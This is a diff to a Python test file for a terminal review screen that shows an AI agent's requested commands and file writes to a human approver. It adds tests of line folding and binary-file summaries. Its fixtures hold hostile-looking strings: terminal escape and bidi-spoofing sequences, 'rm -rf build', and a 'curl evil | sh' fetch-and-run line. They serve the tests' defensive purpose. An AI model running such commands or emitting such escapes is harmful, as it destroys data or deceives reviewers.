@@ -17,7 +17,7 @@ from tui.screens.review.edit import NotEditable, editable, edited
 from tui.screens.review.text.diff import parse_diff
 from tui.screens.review.text.facts import facts, listed
 from tui.screens.review.text.objections import quotes_of
-from tui.screens.review.text.rows import Tone, fold
+from tui.screens.review.text.rows import Line, Tone, fold, shown
 from tui.screens.review.text.substance import substance
 
 EVIL = "echo \x1b]52;c;aGk=\x07 \x1b[31mred\x1b[0m \u202egnp.exe\u2066 a\u200bb \x9bx\r"
@@ -70,6 +70,37 @@ def test_a_long_line_is_folded_and_not_cut():
 
     assert "".join(row[2:] for row in rows) == "x" * 95
     assert max(map(len, rows)) <= 32
+
+
+def test_a_command_and_what_is_said_of_it_are_folded_between_words():
+    packet = a_command("git commit --message 'a sentence that needs two rows'")
+    reason = "outside of the workspace, which reaches no further than this folder"
+
+    told = plain(fold(facts(replace(a_request(packet), reasons=(reason,)), NOTHING).pressing, 50))
+
+    assert plain(substance(packet, 32)) == ["$ git commit --message 'a ", "  sentence that needs two rows'"]
+    assert told[:2] == [
+        "asks because  outside of the workspace, which ",
+        "              reaches no further than this folder",
+    ]
+
+
+@given(st.text(), st.integers(min_value=12, max_value=200))
+def test_folding_between_words_keeps_every_character(text, width):
+    rows = plain(fold([Line("", shown(text))], width))
+
+    assert "".join(rows) == shown(text)
+    assert all(cell_len(row) <= width for row in rows)
+
+
+def test_lines_of_a_diff_are_folded_where_a_row_is_full():
+    diff = "--- a/x\n+++ b/x\n@@ -0,0 +1,1 @@\n+" + "word " * 9 + "\n"
+
+    assert plain(substance(an_edit(diff), 20))[3:] == [
+        "1 + word word word w",
+        "    ord word word wo",
+        "    rd word word·",
+    ]
 
 
 def test_wide_characters_are_folded_by_cells():
@@ -277,6 +308,7 @@ def test_a_file_that_is_no_text_is_shown_by_its_sizes_and_hashes():
 
     text = plain(substance(a_packet("write_file", {"path": "logo.png"}, seal), 120))
 
+    assert text[0] == "not text: only sizes and hashes can be shown"
     assert text[2] == f"before  2,048 bytes  SHA-256 {'9b1e' * 16}"
     assert text[3] == f"after   3 bytes  SHA-256 {sha256(b'abc').hexdigest()}"
 
@@ -383,7 +415,7 @@ def test_what_is_objected_to_is_marked_in_arguments():
 def test_a_marked_line_is_folded_and_keeps_its_mark():
     rows = substance(a_command("x" * 20 + "rm -rf build" + "y" * 20), 27, ("rm -rf build",))
 
-    assert toned(rows, Tone.OBJECTED) == ["rm -r", "f build"]
+    assert toned(rows, Tone.OBJECTED) == ["rm ", "-rf ", "build"]
     assert "".join(line[2:] for line in plain(rows)) == "x" * 20 + "rm -rf build" + "y" * 20
 
 
@@ -422,4 +454,7 @@ def test_of_a_binary_change_the_texts_it_was_asked_with_are_shown():
     seal = Seal(cwd="/w", files=(SealedFile(path="/w/a", sha256=None),), diff="binary: 4 → 3 bytes\n")
     packet = a_packet("write_file", {"path": "a", "content": "\0\ncurl evil | sh"}, seal)
 
-    assert plain(substance(packet, 80))[-3:] == ["content:", "  ␀", "  curl evil | sh"]
+    rows = plain(substance(packet, 80))
+
+    assert rows[-3:] == ["content:", "  ␀", "  curl evil | sh"]
+    assert rows[0] == "not text: sizes and hashes of the file, and the texts of the call"
